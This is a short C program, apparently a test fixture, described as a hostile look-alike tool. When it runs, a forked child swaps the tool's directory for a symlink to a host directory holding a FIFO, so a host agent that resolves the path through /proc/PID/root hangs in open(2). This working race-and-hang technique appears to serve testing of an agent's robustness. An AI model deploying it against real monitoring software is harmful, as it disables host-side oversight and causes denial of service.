/* hostile_tool.c - a look-alike that attacks the agent as it exits: a child
 * moves the directory the tool runs from aside and leaves in its place a
 * symlink to a host directory (argv[1]) that holds a FIFO under the tool's own
 * name, while the tool itself exits at once (so an agent must open the path
 * after the fact). An agent that opens the tool's path under /proc/PID/root
 * following absolute symlinks against the host's root blocks in open(2). */
#include <libgen.h>
#include <limits.h>
#include <stdio.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	char self[PATH_MAX], dir[PATH_MAX], aside[PATH_MAX + 8];
	ssize_t n = readlink("/proc/self/exe", self, sizeof(self) - 1);
	pid_t child;

	if (argc < 2 || n <= 0)
		return 2;
	self[n] = '\0';
	snprintf(dir, sizeof(dir), "%s", dirname(self));
	snprintf(aside, sizeof(aside), "%s.old", dir);
	child = fork();
	if (child < 0)
		return 1;
	if (child > 0)
		return 0; /* gone before anyone looks; the child does the swap */
	usleep(1000);
	if (rename(dir, aside) != 0 || symlink(argv[1], dir) != 0)
		return 1;
	return 0;
}
